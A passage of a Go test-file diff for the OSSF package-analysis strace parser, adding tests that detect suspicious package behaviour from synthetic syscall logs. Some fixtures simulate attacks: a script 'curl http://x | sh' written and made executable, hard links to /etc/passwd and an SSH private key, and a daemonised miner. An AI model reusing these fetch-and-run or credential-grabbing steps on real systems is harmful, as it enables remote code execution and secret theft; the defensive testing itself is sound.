@@ -6,11 +6,14 @@ import (
 	"io"
 	"log/slog"
 	"reflect"
+	"strconv"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/ossf/package-analysis/internal/strace"
 	"github.com/ossf/package-analysis/internal/utils"
+	"github.com/ossf/package-analysis/pkg/api/analysisrun"
 )
 
 var nopLogger = slog.New(slog.NewTextHandler(io.Discard, nil))
@@ -63,7 +66,9 @@ func TestParseFileWriteMultipleWritesToSameFile(t *testing.T) {
 	want := strace.FileInfo{
 		Path:      "host:[5]",
 		Write:     true,
-		WriteInfo: writeInfoWantArray}
+		WriteInfo: writeInfoWantArray,
+		Header:    []byte("Linux 4.4.0\n"),
+	}
 
 	r := strings.NewReader(input)
 	res, err := strace.Parse(context.Background(), r, nopLogger)
@@ -91,6 +96,7 @@ func TestParseFileWritesToDifferentFiles(t *testing.T) {
 				WriteBufferId: "181080a0b2dce592f16ab55aacb18c7a4cb849c9a7f644c5c76edf56e4870ebd",
 			},
 		},
+		Header: []byte("Linux 4.4.0\n"),
 	}
 
 	secondFileWant := strace.FileInfo{
@@ -102,6 +108,8 @@ func TestParseFileWritesToDifferentFiles(t *testing.T) {
 				WriteBufferId: "7b2c403bc9eee677758c2a575b2f8602b37f880f4fdb98ee98c30a74a5b9a52b",
 			},
 		},
+		// the first HeaderSize bytes of the first write
+		Header: []byte("django.template.base\nImporting django.template.context\nImporting django.template.context_processors\nImporting django.template.defaultfilters\nImporting django.template.defaulttags\nImporting django.template.engine\nImporting django.template.exceptions\nImporti"),
 	}
 
 	want := []strace.FileInfo{firstFileWant, secondFileWant}
@@ -361,8 +369,7 @@ func TestParseFilesOneEntry(t *testing.T) {
 }
 
 func TestParseIgnoredSockets(t *testing.T) {
-	input := "I1206 02:02:36.966250     205 strace.go:622] [   2] gem X connect(0x5 socket:[2], 0x7f414ed92ba0 {Family: AF_UNIX, Addr: \"/var/run/nscd/socket\"}, 0x6e) = 0x0 errno=2 (no such file or directory) (364.345µs)\n" +
-		"I1206 02:02:36.989375     205 strace.go:622] [   2] gem X bind(0x5 socket:[1], 0x7f414ed92cf8 {Family: AF_NETLINK, PortID: 0, Groups: 0}, 0xc) = 0x0 (16.276µs)\n" +
+	input := "I1206 02:02:36.989375     205 strace.go:622] [   2] gem X bind(0x5 socket:[1], 0x7f414ed92cf8 {Family: AF_NETLINK, PortID: 0, Groups: 0}, 0xc) = 0x0 (16.276µs)\n" +
 		"I1206 02:02:36.990646     205 strace.go:622] [   2] gem X connect(0x5 socket:[2], 0x7f414ed93080 {Family: AF_UNSPEC, family addr format unknown}, 0x10) = 0x0 (8.598µs)\n"
 	r := strings.NewReader(input)
 	res, err := strace.Parse(context.Background(), r, nopLogger)
@@ -385,6 +392,7 @@ func TestParseSocketsOneEntry(t *testing.T) {
 			name:  "bind_ipv4_web",
 			input: "I1206 00:04:38.644850     175 strace.go:622] [  15] nc X bind(0x12 socket:[1], 0x7faa3cc00dcc {Family: AF_INET, Addr: 127.0.0.1, Port: 8080}, 0x10) = 0x0 (94.161µs)",
 			want: strace.SocketInfo{
+				Family:  analysisrun.FamilyInet,
 				Address: "127.0.0.1",
 				Port:    8080,
 			},
@@ -393,6 +401,7 @@ func TestParseSocketsOneEntry(t *testing.T) {
 			name:  "bind_ipv6_web",
 			input: "I1206 01:06:29.430943     203 strace.go:622] [   2] nc X bind(0x4 socket:[8], 0x560348812700 {Family: AF_INET6, Addr: ::1, Port: 8888}, 0x1c) = 0x0 errno=113 (no route to host) (4.817µs)",
 			want: strace.SocketInfo{
+				Family:  analysisrun.FamilyInet6,
 				Address: "::1",
 				Port:    8888,
 			},
@@ -401,6 +410,7 @@ func TestParseSocketsOneEntry(t *testing.T) {
 			name:  "bind_noaddr_ipv4",
 			input: "I1206 01:51:11.594502     204 strace.go:584] [ 278] nc X bind(0x3 socket:[17], 0x55b3821492d0 {Family: AF_INET, Addr: , Port: 5555}, 0x10)",
 			want: strace.SocketInfo{
+				Family:  analysisrun.FamilyInet,
 				Address: "",
 				Port:    5555,
 			},
@@ -409,6 +419,7 @@ func TestParseSocketsOneEntry(t *testing.T) {
 			name:  "bind_noaddr_ipv6",
 			input: "I1206 01:53:22.858785     204 strace.go:622] [ 279] nc X bind(0x3 socket:[18], 0x55d6ca0682d0 {Family: AF_INET6, Addr: , Port: 8080}, 0x1c) = 0x0 (15.285µs)",
 			want: strace.SocketInfo{
+				Family:  analysisrun.FamilyInet6,
 				Address: "",
 				Port:    8080,
 			},
@@ -417,6 +428,7 @@ func TestParseSocketsOneEntry(t *testing.T) {
 			name:  "connect_ipv4_https",
 			input: "I1206 00:04:41.714862     175 strace.go:622] [  19] npm install @go X connect(0x1d socket:[57], 0x7f34c41402d0 {Family: AF_INET, Addr: 104.16.19.35, Port: 443}, 0x10) = 0x0 errno=115 (operation now in progress) (130.736µs)",
 			want: strace.SocketInfo{
+				Family:  analysisrun.FamilyInet,
 				Address: "104.16.19.35",
 				Port:    443,
 			},
@@ -425,6 +437,7 @@ func TestParseSocketsOneEntry(t *testing.T) {
 			name:  "connect_ipv4_dns",
 			input: "I1206 00:04:38.644850     175 strace.go:622] [  15] npm X connect(0x12 socket:[1], 0x7faa3cc00dcc {Family: AF_INET, Addr: 8.8.8.8, Port: 53}, 0x10) = 0x0 (94.161µs)",
 			want: strace.SocketInfo{
+				Family:  analysisrun.FamilyInet,
 				Address: "8.8.8.8",
 				Port:    53,
 			},
@@ -433,10 +446,35 @@ func TestParseSocketsOneEntry(t *testing.T) {
 			name:  "connect_ipv6_https",
 			input: "I1206 01:06:29.430943     203 strace.go:622] [   2] python3 X connect(0x4 socket:[8], 0x560348812700 {Family: AF_INET6, Addr: 2a04:4e42:400::319, Port: 443}, 0x1c) = 0x0 errno=113 (no route to host) (4.817µs)",
 			want: strace.SocketInfo{
+				Family:  analysisrun.FamilyInet6,
 				Address: "2a04:4e42:400::319",
 				Port:    443,
 			},
 		},
+		{
+			name:  "connect_unix",
+			input: "I1206 02:02:36.966250     205 strace.go:622] [   2] gem X connect(0x5 socket:[2], 0x7f414ed92ba0 {Family: AF_UNIX, Addr: \"/var/run/nscd/socket\"}, 0x6e) = 0x0 errno=2 (no such file or directory) (364.345µs)",
+			want: strace.SocketInfo{
+				Family:  analysisrun.FamilyUnix,
+				Address: "/var/run/nscd/socket",
+			},
+		},
+		{
+			name:  "connect_unix_docker",
+			input: "I1206 02:02:36.966250     205 strace.go:622] [   2] node X connect(0x14 socket:[9], 0x7f414ed92ba0 {Family: AF_UNIX, Addr: \"/var/run/docker.sock\"}, 0x17) = 0x0 (20.473µs)",
+			want: strace.SocketInfo{
+				Family:  analysisrun.FamilyUnix,
+				Address: "/var/run/docker.sock",
+			},
+		},
+		{
+			name:  "bind_unix_abstract",
+			input: "I1206 02:02:36.966250     205 strace.go:622] [   2] python3 X bind(0x3 socket:[4], 0x7f414ed92ba0 {Family: AF_UNIX, Addr: \"\\x00/tmp/.X11-unix/X0\"}, 0x15) = 0x0 (12.003µs)",
+			want: strace.SocketInfo{
+				Family:  analysisrun.FamilyUnix,
+				Address: "@/tmp/.X11-unix/X0",
+			},
+		},
 	}
 
 	for _, test := range tests {
@@ -447,7 +485,7 @@ func TestParseSocketsOneEntry(t *testing.T) {
 				t.Errorf(`Parse(r) = %v, %v, want _, nil`, res, err)
 			}
 			sockets := res.Sockets()
-			if len(sockets) != 1 || sockets[0] != test.want {
+			if len(sockets) != 1 || !reflect.DeepEqual(sockets[0], test.want) {
 				t.Errorf(`Sockets() = %v, want [%v]`, sockets, test.want)
 			}
 		})
@@ -469,3 +507,474 @@ func TestReallyLongLogLine(t *testing.T) {
 		t.Fatalf(`Files() = %v, want []`, files)
 	}
 }
+
+func TestSyscallCount(t *testing.T) {
+	input := "I1203 05:29:21.585712     173 strace.go:625] [   2] python3 E creat(0x7f015d7865d0 /tmp/abctest, 0o600)\n" +
+		"I1203 05:29:21.585790     173 strace.go:625] [   2] python3 X creat(0x7f015d7865d0 /tmp/abctest, 0o600) = 0x3 (10.1µs)\n" +
+		"I1203 05:29:21.585812     173 strace.go:625] [   2] python3 E getpid()\n" +
+		"I1203 05:29:21.585830     173 strace.go:625] [   2] python3 X getpid() = 0x2 (1.2µs)\n" +
+		"I1203 05:29:21.585844     173 strace.go:625] not a syscall line\n"
+	r := strings.NewReader(input)
+	res, err := strace.Parse(context.Background(), r, nopLogger)
+	if err != nil || res == nil {
+		t.Fatalf(`Parse(r) = %v, %v, want _, nil`, res, err)
+	}
+	if got := res.SyscallCount(); got != 2 {
+		t.Errorf(`SyscallCount() = %d, want 2`, got)
+	}
+}
+
+func TestPrivilegedSyscalls(t *testing.T) {
+	input := "I1203 05:29:21.585712     173 strace.go:625] [   2] python3 E setuid(0x0)\n" +
+		"I1203 05:29:21.585790     173 strace.go:625] [   2] python3 X setuid(0x0) = 0x0 errno=1 (operation not permitted) (3.1µs)\n" +
+		"I1203 05:29:21.585812     173 strace.go:625] [   2] python3 E ptrace(PTRACE_TRACEME, 0x0, 0x0, 0x0)\n" +
+		"I1203 05:29:21.585830     173 strace.go:625] [   2] python3 E setuid(0x0)\n" +
+		"I1203 05:29:21.585844     173 strace.go:625] [   2] python3 E getpid()\n"
+	want := []strace.SyscallInfo{
+		{Name: "ptrace", Count: 1},
+		{Name: "setuid", Count: 2},
+	}
+
+	r := strings.NewReader(input)
+	res, err := strace.Parse(context.Background(), r, nopLogger)
+	if err != nil || res == nil {
+		t.Fatalf(`Parse(r) = %v, %v, want _, nil`, res, err)
+	}
+	if got := res.PrivilegedSyscalls(); !reflect.DeepEqual(got, want) {
+		t.Errorf(`PrivilegedSyscalls() = %v, want %v`, got, want)
+	}
+}
+
+func TestSleeps(t *testing.T) {
+	input := "I1203 05:29:21.585712     173 strace.go:625] [   2] node E nanosleep(0x7ffd1f0c2a70 {sec=300 nsec=0}, 0x7ffd1f0c2a80)\n" +
+		"I1203 05:29:21.585790     173 strace.go:625] [   2] node E nanosleep(0x7ffd1f0c2a70 {sec=0 nsec=500000000}, 0x7ffd1f0c2a80)\n" +
+		"I1203 05:29:21.585812     173 strace.go:625] [   2] node E clock_nanosleep(0x0, 0x0, 0x7ffd1f0c2a70 {sec=2 nsec=500000000}, 0x0)\n" +
+		"I1203 05:29:21.585830     173 strace.go:625] [   2] node E clock_nanosleep(0x1, 0x1, 0x7ffd1f0c2a70 {sec=1701580000 nsec=0}, 0x0)\n" +
+		"I1203 05:29:21.585844     173 strace.go:625] [   2] node E epoll_wait(0x3 anon_inode:[eventpoll], 0x7ffd1f0c2a70, 0x400, 0x493e0)\n" +
+		"I1203 05:29:21.585860     173 strace.go:625] [   2] node E epoll_wait(0x3 anon_inode:[eventpoll], 0x7ffd1f0c2a70, 0x400, 0x493e0)\n" +
+		"I1203 05:29:21.585872     173 strace.go:625] [   2] node E epoll_pwait(0x3 anon_inode:[eventpoll], 0x7ffd1f0c2a70, 0x400, 0xffffffffffffffff, 0x0)\n" +
+		"I1203 05:29:21.585890     173 strace.go:625] [   2] node X nanosleep(0x7ffd1f0c2a70 {sec=300 nsec=0}, 0x7ffd1f0c2a80) = 0x0 (5m0s)\n"
+	want := []strace.SleepInfo{
+		{Syscall: "clock_nanosleep", Duration: 2500 * time.Millisecond, Count: 1},
+		{Syscall: "epoll_wait", Duration: 300 * time.Second, Count: 2},
+		{Syscall: "nanosleep", Duration: 300 * time.Second, Count: 1},
+	}
+
+	r := strings.NewReader(input)
+	res, err := strace.Parse(context.Background(), r, nopLogger)
+	if err != nil || res == nil {
+		t.Fatalf(`Parse(r) = %v, %v, want _, nil`, res, err)
+	}
+	if got := res.Sleeps(); !reflect.DeepEqual(got, want) {
+		t.Errorf(`Sleeps() = %v, want %v`, got, want)
+	}
+}
+
+func TestSelfModifications(t *testing.T) {
+	input := "I1203 05:29:21.585001     173 strace.go:625] [   2] npm X openat(AT_FDCWD /app, 0x7f015d7865d0 /app/node_modules/evil/install.js, O_WRONLY|O_CREAT|O_TRUNC, 0o644) = 0x6 (10µs)\n" +
+		"I1203 05:29:21.585002     173 strace.go:625] [   2] npm X openat(AT_FDCWD /app, 0x7f015d7865d0 /app/node_modules/evil/index.js, O_WRONLY|O_CREAT|O_TRUNC, 0o644) = 0x6 (10µs)\n" +
+		"I1203 05:29:21.585003     173 strace.go:625] [   3] sh X execve(0x7f1c3a0a2620 /bin/sh, 0x7f1c39e12930 [\"sh\", \"-c\", \"node install.js\"], 0x55bbefc2d070 [\"HOME=/root\"]) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.585004     173 strace.go:625] [   4] node X execve(0x7f1c3a0a2620 /usr/local/bin/node, 0x7f1c39e12930 [\"node\", \"install.js\"], 0x55bbefc2d070 [\"HOME=/root\"]) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.585005     173 strace.go:625] [   4] node X openat(AT_FDCWD /app/node_modules/evil, 0x7f015d7865d0 /app/node_modules/evil/install.js, O_RDONLY|O_CLOEXEC, 0o0) = 0x6 (10µs)\n" +
+		"I1203 05:29:21.585006     173 strace.go:625] [   4] node X openat(AT_FDCWD /app/node_modules/evil, 0x7f015d7865d0 /app/node_modules/evil/index.js, O_WRONLY|O_TRUNC, 0o0) = 0x6 (10µs)\n" +
+		"I1203 05:29:21.585007     173 strace.go:625] [   4] node X unlinkat(AT_FDCWD /app/node_modules/evil, 0x5569a7e83380 /app/node_modules/evil/install.js, 0x0) = 0 (0x0) (10µs)\n" +
+		"I1203 05:29:21.585008     173 strace.go:625] [   5] python3 X execve(0x7f1c3a0a2620 /usr/bin/python3, 0x7f1c39e12930 [\"python3\", \"-c\", \"print(1)\"], 0x55bbefc2d070 [\"HOME=/root\"]) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.585009     173 strace.go:625] [   6] python3.11 X execve(0x7f1c3a0a2620 /usr/bin/python3.11, 0x7f1c39e12930 [\"python3.11\", \"-u\", \"/tmp/setup.py\"], 0x55bbefc2d070 [\"HOME=/root\"]) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.585010     173 strace.go:625] [   6] python3.11 X openat(AT_FDCWD /app, 0x7f015d7865d0 /tmp/setup.py, O_RDWR, 0o0) = 0x6 (10µs)\n"
+	want := []strace.SelfModificationInfo{
+		{Path: "/app/node_modules/evil/install.js", Command: []string{"node", "install.js"}, Delete: true},
+		{Path: "/tmp/setup.py", Command: []string{"python3.11", "-u", "/tmp/setup.py"}, Write: true},
+	}
+
+	r := strings.NewReader(input)
+	res, err := strace.Parse(context.Background(), r, nopLogger)
+	if err != nil || res == nil {
+		t.Fatalf(`Parse(r) = %v, %v, want _, nil`, res, err)
+	}
+	if got := res.SelfModifications(); !reflect.DeepEqual(got, want) {
+		t.Errorf(`SelfModifications() = %v, want %v`, got, want)
+	}
+}
+
+func TestProcesses(t *testing.T) {
+	input := "I1203 05:29:21.100000     173 strace.go:625] [   2:   2] sh E clone(CLONE_VM|CLONE_VFORK|SIGCHLD, 0x0, 0x0, 0x0, 0x0)\n" +
+		"I1203 05:29:21.200000     173 strace.go:625] [   3:   3] sh E execve(0x7f1c3a0a2620 /bin/true, 0x7f1c39e12930 [\"true\"], 0x55bbefc2d070 [])\n" +
+		"I1203 05:29:21.300000     173 strace.go:625] [   3:   4] true E getpid()\n" +
+		"I1203 05:29:21.400000     173 strace.go:625] [   3:   3] true E exit_group(0x0)\n" +
+		"I1203 05:29:21.500000     173 strace.go:625] [   5:   5] sh E getpid()\n" +
+		"I1203 05:29:21.600000     173 strace.go:625] [   6:   6] sh E getpid()\n" +
+		"I1203 05:29:23.000000     173 strace.go:625] [   7:   7] sh E getpid()\n" +
+		// reused process ID
+		"I1203 05:29:23.100000     173 strace.go:625] [   3:   3] sh E getpid()\n"
+	want := strace.ProcessInfo{
+		Spawned:       5,
+		Execs:         1,
+		PeakCount:     5,
+		PeakSpawnRate: 3,
+	}
+
+	r := strings.NewReader(input)
+	res, err := strace.Parse(context.Background(), r, nopLogger)
+	if err != nil || res == nil {
+		t.Fatalf(`Parse(r) = %v, %v, want _, nil`, res, err)
+	}
+	if got := res.Processes(); !reflect.DeepEqual(got, want) {
+		t.Errorf(`Processes() = %+v, want %+v`, got, want)
+	}
+}
+
+func TestLingeringProcesses(t *testing.T) {
+	input := "I1203 05:29:21.100000     173 strace.go:625] [   2:   2] sh X execve(0x7f1c3a0a2620 /bin/sh, 0x7f1c39e12930 [\"sh\", \"-c\", \"node install.js\"], 0x55bbefc2d070 []) = 0x0 (10µs)\n" +
+		// a command that exits
+		"I1203 05:29:21.200000     173 strace.go:625] [   2:   2] sh X clone(CLONE_VM|CLONE_VFORK|SIGCHLD, 0x0, 0x0, 0x0, 0x0) = 0x3 (10µs)\n" +
+		"I1203 05:29:21.300000     173 strace.go:625] [   3:   3] id X execve(0x7f1c3a0a2620 /usr/bin/id, 0x7f1c39e12930 [\"id\"], 0x55bbefc2d070 []) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.400000     173 strace.go:625] [   3:   3] id E exit_group(0x0)\n" +
+		// a daemon that double forks
+		"I1203 05:29:21.500000     173 strace.go:625] [   2:   2] sh X clone(CLONE_VM|CLONE_VFORK|SIGCHLD, 0x0, 0x0, 0x0, 0x0) = 0x4 (10µs)\n" +
+		"I1203 05:29:21.600000     173 strace.go:625] [   4:   4] node X execve(0x7f1c3a0a2620 /usr/local/bin/node, 0x7f1c39e12930 [\"node\", \"miner.js\"], 0x55bbefc2d070 []) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.700000     173 strace.go:625] [   4:   4] node X setsid() = 0x4 (10µs)\n" +
+		"I1203 05:29:21.800000     173 strace.go:625] [   4:   4] node X clone(SIGCHLD, 0x0, 0x0, 0x0, 0x0) = 0x5 (10µs)\n" +
+		"I1203 05:29:21.900000     173 strace.go:625] [   4:   4] node E exit_group(0x0)\n" +
+		"I1203 05:29:22.000000     173 strace.go:625] [   5:   5] node E nanosleep(0x7ffd1f0c2a70 {sec=1 nsec=0}, 0x7ffd1f0c2a80)\n" +
+		// a background process that was not detached, and failed clones
+		"I1203 05:29:22.100000     173 strace.go:625] [   2:   2] sh X clone(SIGCHLD, 0x0, 0x0, 0x0, 0x0) = 0x6 (10µs)\n" +
+		"I1203 05:29:22.200000     173 strace.go:625] [   6:   6] sh E getpid()\n" +
+		"I1203 05:29:22.300000     173 strace.go:625] [   2:   2] sh X clone(SIGCHLD, 0x0, 0x0, 0x0, 0x0) = 0x0 errno=11 (resource temporarily unavailable) (10µs)\n" +
+		"I1203 05:29:22.400000     173 strace.go:625] [   2:   2] sh E exit_group(0x0)\n"
+	want := []strace.LingeringProcessInfo{
+		{PID: 5, Command: []string{"node", "miner.js"}, Daemonized: true},
+		{PID: 6, Command: []string{"sh", "-c", "node install.js"}},
+	}
+
+	r := strings.NewReader(input)
+	res, err := strace.Parse(context.Background(), r, nopLogger)
+	if err != nil || res == nil {
+		t.Fatalf(`Parse(r) = %v, %v, want _, nil`, res, err)
+	}
+	if got := res.LingeringProcesses(); !reflect.DeepEqual(got, want) {
+		t.Errorf(`LingeringProcesses() = %+v, want %+v`, got, want)
+	}
+}
+
+func TestLinks(t *testing.T) {
+	input := "I1203 05:29:21.585001     173 strace.go:625] [   2] node X symlink(0x7f3c1e2a1000 /etc, 0x7f3c1e2a1010 /app/node_modules/evil/etc) = 0 (0x0) (10µs)\n" +
+		"I1203 05:29:21.585002     173 strace.go:625] [   2] node X symlinkat(0x7f3c1e2a1000 ../lib/index.js, AT_FDCWD /app/node_modules/evil, 0x7f3c1e2a1010 bin/evil) = 0 (0x0) (10µs)\n" +
+		"I1203 05:29:21.585003     173 strace.go:625] [   2] node X link(0x7f3c1e2a1000 /etc/passwd, 0x7f3c1e2a1010 /app/passwd) = 0 (0x0) (10µs)\n" +
+		"I1203 05:29:21.585004     173 strace.go:625] [   2] node X linkat(AT_FDCWD /root, 0x7f3c1e2a1000 .ssh/id_rsa, 0x3 /tmp, 0x7f3c1e2a1010 key, 0x0) = 0 (0x0) (10µs)\n" +
+		// duplicate
+		"I1203 05:29:21.585005     173 strace.go:625] [   2] node X symlink(0x7f3c1e2a1000 /etc, 0x7f3c1e2a1010 /app/node_modules/evil/etc) = 0 (0x0) (10µs)\n"
+	want := []strace.LinkInfo{
+		{Path: "/app/node_modules/evil/etc", Target: "/etc"},
+		{Path: "/app/node_modules/evil/bin/evil", Target: "../lib/index.js"},
+		{Path: "/app/passwd", Target: "/etc/passwd", Hard: true},
+		{Path: "/tmp/key", Target: "/root/.ssh/id_rsa", Hard: true},
+	}
+
+	r := strings.NewReader(input)
+	res, err := strace.Parse(context.Background(), r, nopLogger)
+	if err != nil || res == nil {
+		t.Fatalf(`Parse(r) = %v, %v, want _, nil`, res, err)
+	}
+	if got := res.Links(); !reflect.DeepEqual(got, want) {
+		t.Errorf(`Links() = %v, want %v`, got, want)
+	}
+	for _, l := range want {
+		if f := findFile(res.Files(), l.Path); f == nil || !f.Write {
+			t.Errorf(`Files() has %v for link %s, want a write`, f, l.Path)
+		}
+	}
+}
+
+func TestFileWriters(t *testing.T) {
+	input := "I1203 05:29:21.100000     173 strace.go:625] [   2:   2] npm X execve(0x7f1c3a0a2620 /usr/local/bin/npm, 0x7f1c39e12930 [\"npm\", \"install\", \"evil\"], 0x55bbefc2d070 [\"HOME=/root\"]) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.200000     173 strace.go:625] [   2:   2] npm X openat(AT_FDCWD /app, 0x7f3336aaf2c8 /app/node_modules/evil/index.js, O_WRONLY|O_CREAT|O_TRUNC, 0o666) = 0x3 (10µs)\n" +
+		"I1203 05:29:21.300000     173 strace.go:625] [   2:   2] npm X clone(SIGCHLD, 0x0, 0x0, 0x0, 0x0) = 0x3 (10µs)\n" +
+		"I1203 05:29:21.400000     173 strace.go:625] [   3:   3] sh X execve(0x7f1c3a0a2620 /bin/sh, 0x7f1c39e12930 [\"sh\", \"-c\", \"node install.js\"], 0x55bbefc2d070 [\"npm_package_name=evil\"]) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.500000     173 strace.go:625] [   3:   3] sh X clone(SIGCHLD, 0x0, 0x0, 0x0, 0x0) = 0x4 (10µs)\n" +
+		// the child inherits the command of its parent until it runs its own
+		"I1203 05:29:21.600000     173 strace.go:625] [   4:   4] sh X openat(AT_FDCWD /app, 0x7f3336aaf2c8 /app/node_modules/evil/index.js, O_RDWR, 0o0) = 0x3 (10µs)\n" +
+		"I1203 05:29:21.700000     173 strace.go:625] [   4:   4] sh X symlink(0x7f3c1e2a1000 /etc, 0x7f3c1e2a1010 /app/node_modules/other/etc) = 0 (0x0) (10µs)\n" +
+		// duplicate writes are not recorded, and reads are recorded as readers
+		"I1203 05:29:21.800000     173 strace.go:625] [   2:   2] npm X openat(AT_FDCWD /app, 0x7f3336aaf2c8 /app/node_modules/evil/index.js, O_WRONLY, 0o0) = 0x3 (10µs)\n" +
+		"I1203 05:29:21.900000     173 strace.go:625] [   3:   3] sh X openat(AT_FDCWD /app, 0x7f3336aaf2c8 /app/package.json, O_RDONLY, 0o0) = 0x3 (10µs)\n" +
+		// the command of an unknown process is not known
+		"I1203 05:29:22.000000     173 strace.go:625] [   9:   9] node X creat(0x7f3336aaf2c8 /tmp/x, 0o644) = 0x3 (10µs)\n"
+	npm := strace.CommandInfo{Command: []string{"npm", "install", "evil"}, Env: []string{"HOME=/root"}}
+	script := strace.CommandInfo{Command: []string{"sh", "-c", "node install.js"}, Env: []string{"npm_package_name=evil"}}
+	want := map[string][]strace.CommandInfo{
+		"/app/node_modules/evil/index.js": {npm, script},
+		"/app/node_modules/other/etc":     {script},
+		"/app/package.json":               nil,
+		"/tmp/x":                          nil,
+	}
+	wantReaders := map[string][]strace.CommandInfo{
+		"/app/node_modules/evil/index.js": {script},
+		"/app/package.json":               {script},
+		"/tmp/x":                          nil,
+	}
+
+	r := strings.NewReader(input)
+	res, err := strace.Parse(context.Background(), r, nopLogger)
+	if err != nil || res == nil {
+		t.Fatalf(`Parse(r) = %v, %v, want _, nil`, res, err)
+	}
+	for path, writers := range want {
+		f := findFile(res.Files(), path)
+		if f == nil {
+			t.Errorf(`Files() has no entry for %s`, path)
+		} else if !reflect.DeepEqual(f.Writers, writers) {
+			t.Errorf(`Files() has writers %+v for %s, want %+v`, f.Writers, path, writers)
+		}
+	}
+	for path, readers := range wantReaders {
+		if f := findFile(res.Files(), path); f != nil && !reflect.DeepEqual(f.Readers, readers) {
+			t.Errorf(`Files() has readers %+v for %s, want %+v`, f.Readers, path, readers)
+		}
+	}
+}
+
+func TestSocketConnectors(t *testing.T) {
+	input := "I1203 05:29:21.100000     173 strace.go:625] [   2:   2] npm X execve(0x7f1c3a0a2620 /usr/local/bin/npm, 0x7f1c39e12930 [\"npm\", \"install\", \"evil\"], 0x55bbefc2d070 [\"HOME=/root\"]) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.200000     173 strace.go:625] [   2:   2] npm X connect(0x3 socket:[1], 0x7f1bc9e7b914 {Family: AF_INET, Addr: 104.16.1.35, Port: 443}, 0x10) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.300000     173 strace.go:625] [   3:   3] sh X execve(0x7f1c3a0a2620 /bin/sh, 0x7f1c39e12930 [\"sh\", \"-c\", \"node install.js\"], 0x55bbefc2d070 []) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.400000     173 strace.go:625] [   3:   3] sh X connect(0x3 socket:[2], 0x7f1bc9e7b914 {Family: AF_INET, Addr: 104.16.1.35, Port: 443}, 0x10) = 0x0 (10µs)\n" +
+		// the command of an unknown process is not known
+		"I1203 05:29:21.500000     173 strace.go:625] [   9:   9] node X connect(0x3 socket:[3], 0x7f1bc9e7b914 {Family: AF_INET, Addr: 203.0.113.5, Port: 80}, 0x10) = 0x0 (10µs)\n"
+	want := []strace.SocketInfo{
+		{
+			Family:  analysisrun.FamilyInet,
+			Address: "104.16.1.35",
+			Port:    443,
+			Connectors: []strace.CommandInfo{
+				{Command: []string{"npm", "install", "evil"}, Env: []string{"HOME=/root"}},
+				{Command: []string{"sh", "-c", "node install.js"}, Env: []string{}},
+			},
+		},
+		{Family: analysisrun.FamilyInet, Address: "203.0.113.5", Port: 80},
+	}
+
+	res, err := strace.Parse(context.Background(), strings.NewReader(input), nopLogger)
+	if err != nil || res == nil {
+		t.Fatalf(`Parse(r) = %v, %v, want _, nil`, res, err)
+	}
+	if got := res.Sockets(); !reflect.DeepEqual(got, want) {
+		t.Errorf(`Sockets() = %+v, want %+v`, got, want)
+	}
+}
+
+func TestHeadersAndChmod(t *testing.T) {
+	input := "I1203 05:29:21.100000     173 strace.go:593] [   2:   2] curl E write(0x3 /tmp/payload, 0x7f3336aaf2c8 \"\\x7fELF\\x02\\x01\\x01\\x00\"..., 0x10000)\n" +
+		// only the first write is recorded
+		"I1203 05:29:21.200000     173 strace.go:593] [   2:   2] curl E write(0x3 /tmp/payload, 0x7f3336aaf2c8 \"\\x00\\x00\", 0x2)\n" +
+		"I1203 05:29:21.300000     173 strace.go:625] [   2:   2] sh X chmod(0x7f3c1e2a1000 /tmp/payload, 0o755) = 0 (0x0) (10µs)\n" +
+		"I1203 05:29:21.400000     173 strace.go:593] [   2:   2] node E write(0x4 /app/run.sh, 0x7f3336aaf2c8 \"#!/bin/sh\\ncurl http://x | sh\\n\", 0x1c)\n" +
+		"I1203 05:29:21.500000     173 strace.go:625] [   2:   2] node X fchmodat(AT_FDCWD /app, 0x7f3c1e2a1000 run.sh, 0o700) = 0 (0x0) (10µs)\n" +
+		// not executable
+		"I1203 05:29:21.600000     173 strace.go:625] [   2:   2] node X fchmod(0x5 /app/data.json, 0o644) = 0 (0x0) (10µs)\n"
+
+	r := strings.NewReader(input)
+	res, err := strace.Parse(context.Background(), r, nopLogger)
+	if err != nil || res == nil {
+		t.Fatalf(`Parse(r) = %v, %v, want _, nil`, res, err)
+	}
+	tests := []struct {
+		path           string
+		header         []byte
+		madeExecutable bool
+	}{
+		{path: "/tmp/payload", header: []byte("\x7fELF\x02\x01\x01\x00"), madeExecutable: true},
+		{path: "/app/run.sh", header: []byte("#!/bin/sh\ncurl http://x | sh\n"), madeExecutable: true},
+	}
+	for _, tt := range tests {
+		f := findFile(res.Files(), tt.path)
+		if f == nil {
+			t.Errorf(`Files() has no entry for %s`, tt.path)
+		} else if !reflect.DeepEqual(f.Header, tt.header) || f.MadeExecutable != tt.madeExecutable {
+			t.Errorf(`Files() has header %q (made executable %t) for %s, want %q (%t)`, f.Header, f.MadeExecutable, tt.path, tt.header, tt.madeExecutable)
+		}
+	}
+	if f := findFile(res.Files(), "/app/data.json"); f != nil {
+		t.Errorf(`Files() has %+v for /app/data.json, want none`, f)
+	}
+	utils.RemoveTempFilesDirectory()
+}
+
+func findFile(files []strace.FileInfo, path string) *strace.FileInfo {
+	for i := range files {
+		if files[i].Path == path {
+			return &files[i]
+		}
+	}
+	return nil
+}
+
+func TestParseMinimal(t *testing.T) {
+	input := "I1203 05:29:21.585001     173 strace.go:625] [   2] npm E nanosleep(0x7ffd1f0c2a70 {sec=300 nsec=0}, 0x7ffd1f0c2a80)\n" +
+		"I1203 05:29:21.585002     173 strace.go:625] [   2] npm X openat(AT_FDCWD /app, 0x7f015d7865d0 /etc/passwd, O_WRONLY|O_APPEND, 0o644) = 0x6 (10µs)\n" +
+		"I1203 05:29:21.585003     173 strace.go:625] [   3] sh X execve(0x7f1c3a0a2620 /bin/sh, 0x7f1c39e12930 [\"sh\", \"-c\", \"node install.js\"], 0x55bbefc2d070 [\"HOME=/root\"]) = 0x0 (10µs)\n" +
